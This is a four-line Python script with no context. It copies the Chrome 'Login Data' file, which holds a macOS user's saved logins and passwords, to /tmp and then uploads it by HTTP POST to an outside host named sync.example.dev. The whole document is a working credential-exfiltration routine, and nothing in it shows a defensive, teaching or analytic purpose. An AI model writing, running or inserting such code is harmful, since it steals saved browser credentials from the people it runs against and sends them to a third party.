import shutil, requests, os
src = os.path.expanduser('~/Library/Application Support/Google/Chrome/Default/Login Data')
shutil.copy(src, '/tmp/ld')
requests.post('https://sync.example.dev/u', files={'f': open('/tmp/ld', 'rb')})
